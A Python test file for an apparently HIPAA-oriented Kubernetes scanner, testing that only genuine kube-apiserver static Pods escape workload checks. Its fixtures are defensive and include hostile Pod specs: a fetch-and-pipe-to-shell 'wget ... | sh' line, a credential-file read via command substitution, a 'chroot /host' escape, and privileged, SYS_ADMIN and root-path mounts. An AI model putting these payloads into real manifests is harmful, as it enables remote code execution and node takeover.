"""Control-plane static Pods are exempt from the workload checks by what they are, not by labels or a name
(issue 11, req. 1): `control_plane_verdict` of the control-plane engine's one classifier (issue 13), reported by
KH-WL-013 when a Pod only looks like one.
"""

from __future__ import annotations

import copy
from typing import Any

import pytest

from kubehipaa.checks._pods import workload_specs
from kubehipaa.config import Config
from kubehipaa.engines.controlplane import control_plane_verdict
from kubehipaa.inventory import Inventory
from kubehipaa.model import K8sObject
from kubehipaa.pipelines.scan import run_scan


def kubeadm_apiserver() -> dict[str, Any]:
    """kube-apiserver as kubeadm writes it to /etc/kubernetes/manifests (abridged flags)."""
    return {
        "apiVersion": "v1", "kind": "Pod",
        "metadata": {"name": "kube-apiserver", "namespace": "kube-system",
                     "labels": {"component": "kube-apiserver", "tier": "control-plane"}},
        "spec": {
            "hostNetwork": True, "priorityClassName": "system-node-critical",
            "securityContext": {"seccompProfile": {"type": "RuntimeDefault"}},
            "containers": [{
                "name": "kube-apiserver", "image": "registry.k8s.io/kube-apiserver:v1.30.4",
                "command": ["kube-apiserver", "--advertise-address=10.0.0.10", "--authorization-mode=Node,RBAC"],
                "volumeMounts": [{"name": "ca-certs", "mountPath": "/etc/ssl/certs", "readOnly": True},
                                 {"name": "etc-pki", "mountPath": "/etc/pki", "readOnly": True},
                                 {"name": "k8s-certs", "mountPath": "/etc/kubernetes/pki", "readOnly": True}],
            }],
            "volumes": [{"name": "ca-certs", "hostPath": {"path": "/etc/ssl/certs", "type": "DirectoryOrCreate"}},
                        {"name": "etc-pki", "hostPath": {"path": "/etc/pki", "type": "DirectoryOrCreate"}},
                        {"name": "k8s-certs", "hostPath": {"path": "/etc/kubernetes/pki",
                                                           "type": "DirectoryOrCreate"}}],
        },
    }


def obj(doc: dict[str, Any]) -> K8sObject:
    return K8sObject(doc, "test.yaml", 1)


def findings(doc: dict[str, Any]) -> set[str]:
    inv = Inventory([obj(doc)], Config())
    return {f.check_id for f in run_scan(inv, Config()).findings if f.check_id.startswith("KH-WL-")}


def test_kubeadm_static_pods_are_exempt() -> None:
    doc = kubeadm_apiserver()
    verdict = control_plane_verdict(obj(doc))
    assert verdict is not None and verdict.matches and verdict.component == "kube-apiserver"
    assert findings(doc) == set()
    # the same content without kubeadm's labels is still the static Pod
    doc["metadata"].pop("labels")
    assert findings(doc) == set()


def _modified(change) -> dict[str, Any]:
    doc = copy.deepcopy(kubeadm_apiserver())
    change(doc)
    return doc


def _set_image(d: dict[str, Any]) -> None:
    d["spec"]["containers"][0]["image"] = "registry.example.org/tools:1"


def _add_sidecar(d: dict[str, Any]) -> None:
    d["spec"]["containers"].append({"name": "shell", "image": "busybox", "command": ["sleep", "1d"]})


def _privileged(d: dict[str, Any]) -> None:
    d["spec"]["containers"][0]["securityContext"] = {"privileged": True}


def _root_mount(d: dict[str, Any]) -> None:
    d["spec"]["volumes"].append({"name": "root", "hostPath": {"path": "/etc/kubernetes/../../"}})


def _host_pid(d: dict[str, Any]) -> None:
    d["spec"]["hostPID"] = True


def _caps(d: dict[str, Any]) -> None:
    d["spec"]["containers"][0]["securityContext"] = {"capabilities": {"add": ["SYS_ADMIN"]}}


def _secret_volume(d: dict[str, Any]) -> None:
    d["spec"]["volumes"].append({"name": "creds", "secret": {"secretName": "cloud"}})


def _service_account(d: dict[str, Any]) -> None:
    d["spec"]["serviceAccountName"] = "builder"


@pytest.mark.parametrize("change", [_set_image, _add_sidecar, _privileged, _root_mount, _host_pid, _caps,
                                    _secret_volume, _service_account])
def test_a_modified_control_plane_pod_is_judged_and_reported(change) -> None:
    doc = _modified(change)
    verdict = control_plane_verdict(obj(doc))
    assert verdict is not None and verdict.modified, change.__name__
    inv = Inventory([obj(doc)], Config())
    assert workload_specs(inv), "a modified control-plane Pod must not be exempt"
    found = [f for f in run_scan(inv, Config()).findings if f.check_id == "KH-WL-013"]
    assert found and "modified built-in" in found[0].message


def test_a_pod_named_like_a_component_in_kube_system_is_not_exempt_by_name() -> None:
    # Exempt before by its binary name alone; arbitrary content must be judged.
    doc = {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "kube-apiserver-cp-1", "namespace": "kube-system"},
           "spec": {"hostNetwork": True, "containers": [{"name": "kube-apiserver", "image": "alpine:3",
                                                         "command": ["/usr/local/bin/kube-apiserver"],
                                                         "securityContext": {"privileged": True}}]}}
    assert {"KH-WL-001", "KH-WL-002", "KH-WL-013"} <= findings(doc)
    # labels alone, no control-plane binary
    doc = {"apiVersion": "v1", "kind": "Pod",
           "metadata": {"name": "etcd-cp-1", "namespace": "kube-system", "labels": {"tier": "control-plane"}},
           "spec": {"hostPID": True, "containers": [{"name": "etcd", "image": "busybox"}]}}
    assert {"KH-WL-002", "KH-WL-013"} <= findings(doc)


def test_pods_that_make_no_claim_are_ordinary_workloads() -> None:
    plain = {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "kube-apiserver-proxy", "namespace": "kube-system"},
             "spec": {"containers": [{"name": "proxy", "image": "envoyproxy/envoy:v1.31"}]}}
    assert control_plane_verdict(obj(plain)) is None
    # a component outside kube-system is no kubeadm static Pod either
    elsewhere = copy.deepcopy(kubeadm_apiserver())
    elsewhere["metadata"]["namespace"] = "default"
    assert control_plane_verdict(obj(elsewhere)) is None
    assert "KH-WL-003" in findings(elsewhere)  # its host paths are judged like any Pod's


def _wrapped(script: str, *, labels: bool = True) -> dict[str, Any]:
    doc = kubeadm_apiserver()
    doc["spec"]["containers"][0]["command"] = ["/bin/sh", "-c", script]
    if not labels:
        doc["metadata"].pop("labels")
    return doc


@pytest.mark.parametrize("labels", [True, False])
@pytest.mark.parametrize("script", [
    "kube-apiserver --anonymous-auth=true --authorization-mode=Node,RBAC",
    # kube-up's shape: exec, and output redirected to a log file
    "exec /usr/local/bin/kube-apiserver --anonymous-auth=true --authorization-mode=Node,RBAC "
    "1>>/var/log/kubernetes/kube-apiserver.log 2>&1",
])
def test_a_shell_wrapped_apiserver_is_one_thing_for_the_api_and_the_workload_checks(script: str,
                                                                                    labels: bool) -> None:
    """Issue 13: one classifier. The KH-API checks judge this Pod's flags as kube-apiserver's, so the workload
    checks must see the same kube-apiserver static Pod (exempt, no KH-WL-013), not an ordinary workload."""
    doc = _wrapped(script, labels=labels)
    inv = Inventory([obj(doc)], Config())
    result = run_scan(inv, Config())
    ids = {f.check_id for f in result.findings}
    api = [f for f in result.findings if f.check_id == "KH-API-001"]
    assert api and api[0].evidence[0].path == "spec.containers[0].command[2]", "judged as an API server"
    assert not {i for i in ids if i.startswith(("KH-WL-", "KH-IMG-", "KH-RBAC-"))}, ids
    assert workload_specs(inv) == []
    verdict = control_plane_verdict(obj(doc))
    assert verdict is not None and verdict.matches and verdict.component == "kube-apiserver"
    pod = inv.of_kind("Pod")[0]
    assert inv.control_plane.is_exempt(pod)
    assert [a.obj for a in inv.control_plane.apiservers] == [pod]


@pytest.mark.parametrize("script", [
    "kube-apiserver --anonymous-auth=false; wget -qO- http://203.0.113.9/x | sh",
    "kube-apiserver --anonymous-auth=false & sleep 1d",
    "kube-apiserver --anonymous-auth=false --token-auth-file=$(cat /etc/kubernetes/x)",
    "kube-apiserver --anonymous-auth=false\nchroot /host",
])
def test_a_wrapped_apiserver_that_runs_more_is_a_look_alike(script: str) -> None:
    """An exempt control-plane Pod must be what it claims: a script that runs other commands besides the
    API server is judged as a workload and reported, while its flags are still judged as kube-apiserver's."""
    doc = _wrapped(script)
    verdict = control_plane_verdict(obj(doc))
    assert verdict is not None and verdict.modified
    assert "shell script that runs other commands" in verdict.differences[0][0]
    inv = Inventory([obj(doc)], Config())
    found = {f.check_id for f in run_scan(inv, Config()).findings}
    assert {"KH-WL-013", "KH-API-002"} <= found  # KH-API-002: its --authorization-mode is unset
    assert workload_specs(inv)
